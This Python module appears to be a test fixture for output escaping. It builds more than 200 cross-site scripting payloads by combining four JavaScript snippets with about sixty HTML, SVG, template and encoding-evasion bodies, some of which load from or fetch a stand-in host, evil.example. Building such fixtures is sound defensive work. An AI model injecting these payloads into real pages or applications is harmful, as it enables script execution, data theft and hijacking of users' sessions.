"""Texts that would run as a script where a page took them for more than text."""

from __future__ import annotations

CODES = ("window.pwned=1", "alert(1)", "prompt('x')", "fetch('//evil.example/')")
"""What each would do; the tests see all of it."""

BODIES = (
    "<script>X</script>",
    "<SCRIPT>X</SCRIPT >",
    "<scr<script>ipt>X</scr</script>ipt>",
    "<img src=x onerror=X>",
    "<img/src=x/onerror=X//",
    '"><img src=x onerror=X>',
    "'><img src=x onerror=X>",
    '" onmouseover="X" autofocus onfocus="X',
    "' onfocus='X' autofocus='",
    "x onerror=X",
    "<svg onload=X>",
    "<svg><animate onbegin=X attributeName=x dur=1s>",
    "<svg><script>X</script></svg>",
    '<svg><a xlink:href="javascript:X"><text>a</text></a></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=X>",
    "<details open ontoggle=X>",
    "<video><source onerror=X>",
    "<audio src=x onerror=X>",
    "<body onload=X>",
    '<iframe srcdoc="<script>X</script>">',
    '<iframe src="javascript:X">',
    '<object data="javascript:X">',
    '<embed src="javascript:X">',
    '<a href="javascript:X">a</a>',
    "javascript:X",
    "JaVaScRiPt:X//",
    "data:text/html,<script>X</script>",
    '<form action="javascript:X"><button>b</button></form>',
    "<input autofocus onfocus=X>",
    "<style>@import'//evil.example/';*{background:url(//evil.example/)}</style>X",
    "<link rel=stylesheet href=//evil.example/>X",
    '<meta http-equiv=refresh content="0;url=javascript:X">',
    "<base href=//evil.example/>X",
    "</textarea><script>X</script>",
    "</title></style></script><script>X</script>",
    "--><script>X</script><!--",
    "${X}",
    "`+X+`",
    "`;X;//",
    "\\`${X}",
    "{{X}}",
    "{{{value}}}X",
    '{{#with "s"}}{{lookup (lookup this "constructor") "constructor"}}X{{/with}}',
    "{% raw %}{{X}}{% endraw %}",
    "{{''.__class__.__mro__}}X",
    "&lt;img src=x onerror=X&gt;",
    "&#60;script&#62;X&#60;/script&#62;",
    "%3Cscript%3EX%3C/script%3E",
    "\\x3cscript\\x3eX\\x3c/script\\x3e",
    "\\u003cimg src=x onerror=X\\u003e",
    "\uff1cscript\uff1eX\uff1c/script\uff1e",
    '[a](javascript:X) ![b](x"onerror="X)',
    "<img src=//evil.example/a.png>X",
    "\u202e<script>X</script>\u202c",
    '\u2066"><img src=x onerror=X>\u2069',
    "A" * 90 + "<img src=x onerror=X>",
    '__i18n__{"key":"X"}',
    "$$X$$ \\href{javascript:X}{y}",
    '<x-y style="position:fixed;inset:0" onpointerenter=X>',
    "<div popover id=p onbeforetoggle=X>",
)
PAYLOADS = tuple(body.replace("X", code) for code in CODES for body in BODIES)
assert len(PAYLOADS) >= 200
assert len(set(PAYLOADS)) == len(PAYLOADS)


def as_file(text: str) -> str:
    """The nearest name that a file system takes: a slash becomes one that is none, and 200 bytes are the most."""
    return text.replace("/", "\u2215").encode()[:200].decode("utf-8", "ignore")
